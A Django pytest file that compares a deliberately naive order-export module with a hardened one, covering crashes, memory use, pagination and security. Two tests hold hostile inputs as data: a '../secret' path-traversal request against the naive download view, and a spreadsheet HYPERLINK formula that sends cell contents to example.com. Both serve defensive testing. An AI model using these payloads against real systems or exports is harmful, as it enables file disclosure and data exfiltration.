"""What goes wrong with the naive export, and not with ours: see `docs/patterns/exports.md`."""

import csv
import io
import tracemalloc
import zipfile
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.test import Client, RequestFactory
from django.utils import timezone

from accounts.models import User
from accounts.tests.factories import make_user
from exports import files, links
from exports.kinds import ExportKind
from exports.models import Export
from exports.tests.factories import make_export, make_orders
from exports.tests.naive import PAGE, download, export_at_once, export_orders
from orders.models import Order
from tasks.models import TaskRun
from tasks.testing import run_due

pytestmark = [pytest.mark.alike, pytest.mark.django_db]


class Killed(BaseException):
    """As sudden as SIGKILL."""


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "orders.csv"


@pytest.fixture
def customer() -> User:
    return make_user()


def numbers(content: str) -> list[str]:
    """Return the first cell of every row below the head."""
    return [row[0] for row in csv.reader(content.splitlines())][1:]


def peak_of(export: Callable[[Path], None], path: Path, rows: int, customer: User) -> int:
    """Return how many bytes the export of so many rows more has held at once."""
    make_orders(rows, user=customer)
    tracemalloc.start()
    try:
        export(path)
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def after_rows(count: int, happens: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """Have something happen once so many rows of the naive export were read."""
    seen = Counter[str]()
    lines = Order.lines

    def look(order: Order) -> Any:
        seen["rows"] += 1
        if seen["rows"] == count:
            happens()
        return lines.__get__(order, Order)

    monkeypatch.setattr(Order, "lines", property(look))


def test_naive_a_killed_worker_leaves_half_a_file_that_looks_whole(
    path: Path, customer: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    make_orders(50, user=customer)

    def die() -> None:
        raise Killed

    after_rows(30, die, monkeypatch)
    with pytest.raises(Killed):
        export_orders(path)

    assert len(numbers(path.read_text())) == 29, "21 orders are missing, and nothing says so"


def test_here_a_killed_worker_leaves_no_file_to_download(
    customer: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    make_orders(50, user=customer)
    export = make_export(user=customer)

    def die(*_args: Any, **_kwargs: Any) -> None:
        raise Killed

    monkeypatch.setattr(files, "save_whole", die)
    run_due()

    export.refresh_from_db()
    assert export.file == ""


def test_naive_the_next_attempt_begins_at_the_first_row_again(
    path: Path, customer: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    make_orders(50, user=customer)
    read = Counter[str]()
    lines = Order.lines

    def look(order: Order) -> Any:
        read["rows"] += 1
        if read["rows"] == 45:
            raise Killed
        return lines.__get__(order, Order)

    monkeypatch.setattr(Order, "lines", property(look))
    with pytest.raises(Killed):
        export_orders(path)
    export_orders(path)

    assert read["rows"] == 45 + 50


def test_here_the_next_attempt_reads_one_chunk_again_at_most(
    customer: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    make_orders(50, user=customer)
    make_export(user=customer)
    save_part = files.save_part
    written: list[int] = []

    def die_once(export: Export, *, number: int, **kwargs: Any) -> str:
        written.append(number)
        if written == [1, 2]:
            raise Killed
        return save_part(export, number=number, **kwargs)

    monkeypatch.setattr(files, "save_part", die_once)
    run_due()
    TaskRun.objects.update(run_at=timezone.now())
    run_due()

    assert written == [1, 2, 2, 3]


def test_naive_all_rows_are_in_memory_at_once(path: Path, customer: User) -> None:
    few, many = (peak_of(export_at_once, path, rows, customer) for rows in (500, 2_500))

    assert many > 3 * few


def test_naive_the_address_names_any_file_of_the_machine(tmp_path: Path) -> None:
    (tmp_path / "exports").mkdir()
    (tmp_path / "secret").write_text("not yours")

    response = download(RequestFactory().get("/", {"file": "../secret"}), tmp_path / "exports")

    assert response.getvalue() == b"not yours"
    response.close()


def test_here_an_address_names_no_file(customer: User, client: Client) -> None:
    make_orders(3, user=customer)
    export = make_export(user=customer)
    run_due()
    export.refresh_from_db()
    client.force_login(customer)
    link = links.download_link(export)

    assert client.get(f"{link}&file=../secret").getvalue() == files.read(export.file)
    client.force_login(make_user())
    assert client.get(link).status_code == 404


def test_naive_an_order_placed_meanwhile_shifts_the_pages_and_one_is_written_twice(
    path: Path, customer: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    make_orders(50, user=customer)
    after_rows(PAGE, lambda: make_orders(1, user=customer), monkeypatch)

    export_orders(path)

    assert max(Counter(numbers(path.read_text())).values()) == 2


def test_here_what_is_placed_meanwhile_shifts_nothing(
    customer: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    orders = make_orders(50, user=customer)
    export = make_export(user=customer)
    save_part = files.save_part

    def order_one(*args: Any, **kwargs: Any) -> str:
        make_orders(1, user=customer)
        return save_part(*args, **kwargs)

    monkeypatch.setattr(files, "save_part", order_one)
    run_due()

    export.refresh_from_db()
    written = numbers(files.read(export.file).decode())
    assert written == [str(order.public_id) for order in orders]


FORMULA = '=HYPERLINK("http://example.com/?"&A2,"Click")'


def test_naive_a_products_name_is_run_as_a_formula(path: Path, customer: User) -> None:
    make_orders(1, user=customer, name=FORMULA)

    export_orders(path)

    [row] = list(csv.reader(path.read_text().splitlines()))[1:]
    assert row[1].startswith("=")


def test_here_a_products_name_is_text(customer: User) -> None:
    make_orders(1, user=customer, name=FORMULA)
    export = make_export(ExportKind.MY_DATA, user=customer)
    run_due()

    export.refresh_from_db()
    archive = zipfile.ZipFile(io.BytesIO(files.read(export.file)))
    [row] = list(csv.reader(archive.read("order_lines.csv").decode().splitlines()))[1:]
    assert row[1] == f"'{FORMULA}"
